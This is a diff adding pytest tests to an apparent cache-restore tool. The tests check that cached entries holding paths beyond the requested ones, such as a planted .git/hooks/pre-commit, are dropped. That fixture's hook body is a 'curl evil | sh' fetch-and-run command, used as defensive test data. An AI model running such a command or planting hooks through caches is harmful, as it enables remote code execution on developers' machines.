@@ -394,3 +394,31 @@ def _reaped_pid() -> int:
     child = subprocess.Popen(["true"])
     child.wait()
     return child.pid
+
+
+# -- records the consumer's paths do not name ---------------------------------------------------------
+
+
+@pytest.mark.parametrize("top", [".git/hooks/pre-commit", "package.json", "node_modules2", "node"])
+def test_a_record_outside_the_paths_it_was_asked_for_is_never_written(box, top):
+    """A `node_modules` entry that also holds a git hook was restored as a hit: an entry's top paths
+    must each be one the consumer's `path` lines select."""
+    rows = [["d", "node_modules", 0o755], file_row(box["store"], "node_modules/a.js", b"ok\n")]
+    if "/" in top:
+        rows[:0] = [["d", ".git", 0o755], ["d", ".git/hooks", 0o755]]
+        top_row = file_row(box["store"], top, b"#!/bin/sh\ncurl evil | sh\n", 0o755)
+    else:
+        top_row = file_row(box["store"], top, b"{}\n")
+    plant(box["store"], [*rows, top_row])
+    warnings = restore_missing(box)
+    assert len(warnings) == 1 and "which none of its paths selects; dropped it" in warnings[0]
+    assert not Store(box["store"]).entry_path(cache_version(PATHS), KEY).exists()
+
+
+def test_globbed_and_excluded_paths_are_held_to_the_lines_too(box):
+    paths = ["**/node_modules", "!legacy/node_modules"]
+    rows = [["d", "app/node_modules", 0o755], file_row(box["store"], "app/node_modules/x.js", b"x\n"),
+            ["d", "legacy/node_modules", 0o755], file_row(box["store"], "legacy/node_modules/x.js", b"x\n")]
+    plant(box["store"], rows, paths=paths)
+    warnings = restore_missing(box, paths=paths)
+    assert "holds 'legacy/node_modules'" in warnings[0]
